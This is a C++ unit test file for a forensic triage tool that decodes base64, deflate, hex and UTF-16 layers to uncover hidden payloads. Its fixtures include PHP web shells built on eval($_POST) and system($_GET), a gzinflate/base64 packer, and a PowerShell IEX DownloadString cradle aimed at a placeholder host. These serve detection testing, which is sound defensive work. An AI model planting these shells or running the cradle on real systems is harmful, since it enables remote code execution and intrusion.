// SPDX-License-Identifier: Apache-2.0
#include "casefile/encoding.h"
#include "tests/unit/triage/unfold/collected.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <zlib.h>

namespace firsthour::triage {
namespace {

const std::string kShell = "<?php @eval($_POST['x']); /* some words to make it a little longer */ ?>";

std::string base64(std::string_view bytes) {
  static constexpr char kLetters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string text;
  for (std::size_t i = 0; i < bytes.size(); i += 3) {
    std::uint32_t held = 0;
    const std::size_t here = std::min<std::size_t>(3, bytes.size() - i);
    for (std::size_t k = 0; k < 3; ++k)
      held = held << 8U | (k < here ? static_cast<unsigned char>(bytes[i + k]) : 0U);
    for (std::size_t k = 0; k < 4; ++k)
      text.push_back(k <= here ? kLetters[held >> (18 - 6 * k) & 63U] : '=');
  }
  return text;
}

std::string bare_deflate(const std::string& bytes) {
  z_stream stream{};
  deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY);
  std::string out(bytes.size() + 100, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(bytes.data()));
  stream.avail_in = static_cast<uInt>(bytes.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  deflate(&stream, Z_FINISH);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  return out;
}

TEST(UnfoldLayers, Base64InAStringOfAScript) {
  EXPECT_EQ(unfolded("<?php $a = '" + base64(kShell) + "';").contents, (Files{{"base64@12", kShell}}));
}

TEST(UnfoldLayers, DeflatedAndThenEncodedAsPackersDo) {
  const std::string script = kShell + kShell + "<?php system($_GET['c']); ?>";
  const std::string packed = base64(bare_deflate(script));
  EXPECT_EQ(unfolded("eval(gzinflate(base64_decode(\"" + packed + "\")));").contents,
            (Files{{"base64+deflate@30", script}}));
}

TEST(UnfoldLayers, OverTheLinesOfAMailAndInQuotedStrings) {
  std::string lines, quoted;
  const std::string long_text = kShell + kShell + kShell, encoded = base64(long_text);
  for (std::size_t i = 0; i < encoded.size(); i += 76) {
    lines += encoded.substr(i, 76) + "\r\n";
    quoted += encoded.substr(i, 76) + "\\n";
  }
  EXPECT_EQ(unfolded("Subject: x\r\n\r\n" + lines + "\r\n").contents, (Files{{"base64@14", long_text}}));
  EXPECT_EQ(unfolded("\"" + quoted + "\"").contents, (Files{{"base64@1", long_text}}));
}

TEST(UnfoldLayers, HexadecimalEvenBehindOtherSigns) {
  EXPECT_EQ(unfolded("//" + to_hex(std::as_bytes(std::span{kShell}))).contents, (Files{{"hex@2", kShell}}));
}

TEST(UnfoldLayers, Base64BehindOtherSignsOfTheAlphabet) {
  const Collected found = unfolded("x=//" + base64(std::string(600, 'A') + kShell));
  ASSERT_EQ(found.contents.size(), 1u);
  EXPECT_THAT(found.contents.begin()->second, testing::HasSubstr(kShell));
}

TEST(UnfoldLayers, WideTextAsPowerShellTakesIt) {
  std::string wide;
  for (const char c : std::string{"IEX (New-Object Net.WebClient).DownloadString('http://a')"})
    wide += c, wide += '\0';
  EXPECT_EQ(unfolded("powershell -enc " + base64(wide)).contents, (Files{{"base64@16", wide}}));
}

TEST(UnfoldLayers, PathsNamesAndDigestsAreNoLayers) {
  const std::string text =
      "/usr/lib/x86_64-linux-gnu/perl5/5.36/auto/Some/Very/Long/Path/That/Goes/On/And/On/For/Ever "
      "aVeryLongIdentifierThatSomebodyFoundNecessaryToWriteInFullWithoutAnyBreakWhatsoever "
      "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 "
      "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7 ----------------------------------------------------------------";
  EXPECT_THAT(unfolded(text).contents, testing::IsEmpty());
}

TEST(UnfoldLayers, TooManyAreALossThatSaysFromWhere) {
  std::string text;
  for (int i = 0; i < 300; ++i) text += base64(kShell + std::to_string(i)) + "\n\n";
  const Collected found = unfolded(text);
  EXPECT_EQ(found.contents.size(), 256u);
  EXPECT_THAT(found.losses, testing::ElementsAre(testing::HasSubstr("were left out")));
}

}  // namespace
}  // namespace firsthour::triage
